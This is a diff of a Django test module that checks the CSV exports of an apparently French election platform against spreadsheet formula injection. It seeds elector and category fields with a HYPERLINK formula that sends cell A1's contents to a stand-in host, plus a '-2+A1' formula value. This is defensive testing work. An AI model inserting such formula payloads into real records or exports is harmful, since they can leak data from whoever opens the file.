@@ -34,7 +34,7 @@ from ..accounts.world import make_user
 
 pytestmark = pytest.mark.django_db(databases=["default", "ballotbox"], transaction=True)
 
-FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
+FORMULA = '=HYPERLINK("http://x.fr/?"&A1;"Ici")'  # 36 characters: fits every field
 SRC = Path(__file__).resolve().parents[3] / "src" / "scrutin"
 
 # Every CSV-producing URL of the platform, by URL name (checked against the URL conf below).
@@ -63,7 +63,7 @@ def _world(tmp_path: Path) -> tuple[Urn, ImportRun, Any]:
     urn = Urn.objects.select_related("cci", "category").get(code="011-C")
     voter = Elector.objects.filter(urn=urn).order_by("number").first()
     assert voter is not None
-    Elector.objects.filter(pk=voter.pk).update(company_name=FORMULA, usage_name="-" + FORMULA)
+    Elector.objects.filter(pk=voter.pk).update(company_name=FORMULA, usage_name="-2+A1")
     Emargement.objects.create(elector_number=voter.number, urn=urn, voted_at=timezone.now())
     urn.category.label = FORMULA[:45]
     urn.category.save()
